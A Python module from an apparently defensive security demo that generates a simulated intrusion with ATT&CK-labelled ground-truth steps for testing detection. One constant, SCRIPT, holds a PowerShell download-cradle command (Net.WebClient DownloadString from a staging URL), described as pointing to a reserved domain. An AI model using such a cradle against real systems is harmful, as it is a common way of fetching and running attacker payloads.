"""What the incident's chapters share: the scene, the cast, the clock, and the marking of steps."""

from __future__ import annotations

from contextlib import AbstractContextManager

from vedette.demo.attack.cast import C2_IP, CLOUD_IP, DOCUMENT, MAIL_IP, STAGE, STAGE_PATH, Cast
from vedette.demo.clock import DAY, HOUR, MINUTE, SECOND
from vedette.demo.company import Host
from vedette.demo.mail import Message
from vedette.demo.scene import Scene
from vedette.demo.truth import Step, Truth, marking

__all__ = ["C2_IP", "CLOUD_IP", "DOCUMENT", "MAIL_IP", "SCRIPT", "STAGE_PATH", "Story", "incident_day"]

SCRIPT = f"$t = (New-Object Net.WebClient).DownloadString('{STAGE}'); Write-Output $t"
"""What the encoded command decodes to: it would print a text from a domain that is reserved."""


class Story:
    """One incident in one world."""

    def __init__(self, scene: Scene, truth: Truth, cast: Cast, day: int) -> None:
        self.scene = scene
        self.truth = truth
        self.cast = cast
        self.day = day
        self.starts_at = day + 9 * HOUR + 38 * MINUTE
        self.messages: list[Message] = []
        """The lures, for the mailbox."""
        self._n = 0

    def at(self, hour: int, minute: int, second: int = 0) -> int:
        """Return a time of the incident's first day (hours past 24 lie on the next)."""
        return self.day + hour * HOUR + minute * MINUTE + second * SECOND + int(self.scene.rng.random() * 900_000)

    def step(
        self,
        t: int,
        what: str,
        techniques: str,
        host: Host | None,
        account: str | None,
        marker: str | None = None,
    ) -> AbstractContextManager[Step]:
        """Open a step of the truth: records emitted inside belong to it.

        Args:
            t: When the step begins.
            what: One sentence.
            techniques: ATT&CK ids, separated by spaces.
            host: Where.
            account: As whom.
            marker: A string to find the step's records by.
        """
        self._n += 1
        name = None if host is None else host.name
        step = Step(f"S{self._n:02d}", t, what, tuple(techniques.split()), name, account, marker)
        self.truth.steps.append(step)
        return marking(self.scene.sink, step)


def incident_day(start: int, n_days: int) -> int:
    """Return midnight of the incident's day: a weekday with three days of ordinary life before it and one after."""
    days = [start + i * DAY for i in range(3, n_days - 1)]
    return next((d for d in days if (d // DAY + 3) % 7 < 5), days[0])
